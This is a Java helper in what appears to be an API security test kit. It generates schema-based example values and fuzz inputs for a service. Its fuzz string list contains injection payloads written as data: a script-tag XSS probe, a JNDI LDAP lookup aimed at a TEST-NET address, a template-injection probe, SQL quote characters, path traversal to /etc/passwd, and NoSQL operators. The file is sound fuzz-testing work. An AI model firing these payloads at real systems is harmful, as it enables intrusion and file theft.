package org.opencrm.testkit.security;

import static org.opencrm.testkit.security.ApiOperations.list;
import static org.opencrm.testkit.security.ApiOperations.map;

import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Values for an OpenAPI schema: a plain valid-looking example (for the authorization matrix) and random ones,
 * mostly well-formed but often wrong, for the fuzzer. URLs use TEST-NET IP literals, so no value ever makes the
 * service resolve a name or call out.
 */
final class SchemaValues {

    /** Strings a fuzzer tries: empty, blanks, control characters, scripts, RTL, emoji, quotes, operators. */
    static final List<String> NASTY_STRINGS = List.of(
            "",
            " ",
            "\t\n",
            "\u0000",
            "\u202e\u0645\u0631\u062d\u0628\u0627",
            "\ud83d\ude00\ud83d\udc4d\ud83c\udffd",
            "Ω≈ç√∫˜µ≤≥÷",
            "'\"`;--",
            "<script>alert(1)</script>",
            "${jndi:ldap://203.0.113.9/x}",
            "{{7*7}}",
            "$ne",
            "{\"$gt\":\"\"}",
            "../../etc/passwd",
            "%00%2e%2e%2f",
            "a".repeat(10_000),
            "-1",
            "9999999999999999999999",
            "NaN",
            "null",
            "true",
            "2026-02-30T25:61:00Z",
            "+79990000000",
            "not-an-email@");

    private final ApiOperations api;

    SchemaValues(ApiOperations api) {
        this.api = api;
    }

    Object example(Map<String, Object> schema) {
        return example(api.resolve(schema), 0);
    }

    private Object example(Map<String, Object> schema, int depth) {
        schema = api.resolve(schema);
        if (depth > 6) {
            return null;
        }
        if (!list(schema.get("enum")).isEmpty()) {
            return list(schema.get("enum")).get(0);
        }
        if (!list(schema.get("oneOf")).isEmpty()) {
            return example(map(list(schema.get("oneOf")).get(0)), depth + 1);
        }
        String type = type(schema);
        switch (type) {
            case "object": {
                var result = new LinkedHashMap<String, Object>();
                map(schema.get("properties")).forEach((name, property) -> {
                    Object value = example(map(property), depth + 1);
                    if (value != null) {
                        result.put(name, value);
                    }
                });
                return result;
            }
            case "array": {
                Object item = example(map(schema.get("items")), depth + 1);
                return item == null ? List.of() : List.of(item);
            }
            case "integer":
                return schema.get("minimum") instanceof Number n ? n.longValue() : 1;
            case "number":
                return schema.get("minimum") instanceof Number n ? n.doubleValue() : 1.5;
            case "boolean":
                return Boolean.FALSE;
            default:
                return exampleString(schema);
        }
    }

    private static String exampleString(Map<String, Object> schema) {
        String format = String.valueOf(schema.get("format"));
        return switch (format) {
            case "date-time" -> Instant.now().plusSeconds(86_400).toString();
            case "date" -> LocalDate.now().plusDays(1).toString();
            case "email" -> "someone@example.org";
            case "uri", "url" -> "https://203.0.113.10/hook";
            case "uuid" -> "3f2b8c1e-6d4a-4c3b-9e1f-2a7b5c9d0e11";
            case "binary", "byte" -> "AQID";
            default -> "x";
        };
    }

    /** A random value for the schema: often right, sometimes the wrong type, a nasty string or an operator. */
    Object fuzz(Map<String, Object> schema, Random random) {
        return fuzz(api.resolve(schema), random, 0);
    }

    private Object fuzz(Map<String, Object> schema, Random random, int depth) {
        schema = api.resolve(schema);
        int dice = random.nextInt(100);
        if (dice < 4) {
            return null;
        }
        if (dice < 8) {
            return Map.of(pick(random, List.of("$ne", "$gt", "$where", "$regex", "$expr")), "zz");
        }
        if (dice < 14) {
            return wrongType(type(schema), random);
        }
        if (!list(schema.get("enum")).isEmpty()) {
            var values = list(schema.get("enum"));
            return random.nextInt(5) == 0 ? "NOT_A_VALUE" : values.get(random.nextInt(values.size()));
        }
        if (!list(schema.get("oneOf")).isEmpty()) {
            var options = list(schema.get("oneOf"));
            return fuzz(map(options.get(random.nextInt(options.size()))), random, depth + 1);
        }
        switch (type(schema)) {
            case "object": {
                var result = new LinkedHashMap<String, Object>();
                if (depth > 5) {
                    return result;
                }
                map(schema.get("properties")).forEach((name, property) -> {
                    if (random.nextInt(4) != 0) {
                        result.put(name, fuzz(map(property), random, depth + 1));
                    }
                });
                if (schema.get("additionalProperties") instanceof Map<?, ?> additional && random.nextBoolean()) {
                    result.put(
                            pick(random, List.of("k", "a.b", "$where", "x y", "\u00e9")),
                            fuzz(map(additional), random, depth + 1));
                }
                if (random.nextInt(10) == 0) {
                    result.put(pick(random, List.of("tenantId", "id", "version", "createdAt", "unknown")), "x");
                }
                return result;
            }
            case "array": {
                int size = random.nextInt(10) == 0 ? 300 : random.nextInt(4);
                var result = new ArrayList<Object>();
                for (int i = 0; i < size && depth <= 5; i++) {
                    result.add(fuzz(map(schema.get("items")), random, depth + 1));
                }
                return result;
            }
            case "integer":
                return pick(
                        random, List.of(0L, 1L, -1L, 7L, 100L, 201L, Long.MAX_VALUE, Long.MIN_VALUE, 2_147_483_648L));
            case "number":
                return pick(random, List.of(0.0, -0.01, 1.5, 1e308, -1e308, 123456789.123456789));
            case "boolean":
                return random.nextBoolean();
            default:
                return random.nextInt(3) == 0 ? pick(random, NASTY_STRINGS) : exampleString(schema);
        }
    }

    private static Object wrongType(String type, Random random) {
        List<Object> candidates = new ArrayList<>(List.of("x", 1, true, List.of(1, 2), Map.of("a", 1)));
        candidates.removeIf(c -> switch (type) {
            case "string" -> c instanceof String;
            case "integer", "number" -> c instanceof Number;
            case "boolean" -> c instanceof Boolean;
            case "array" -> c instanceof List;
            case "object" -> c instanceof Map;
            default -> false;
        });
        return candidates.get(random.nextInt(candidates.size()));
    }

    static String type(Map<String, Object> schema) {
        Object type = schema.get("type");
        if (type instanceof String t) {
            return t;
        }
        if (type instanceof List<?> types) {
            return types.stream()
                    .map(String::valueOf)
                    .filter(t -> !t.equals("null"))
                    .findFirst()
                    .orElse("string");
        }
        if (schema.containsKey("properties") || schema.containsKey("additionalProperties")) {
            return "object";
        }
        return "string";
    }

    static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }
}
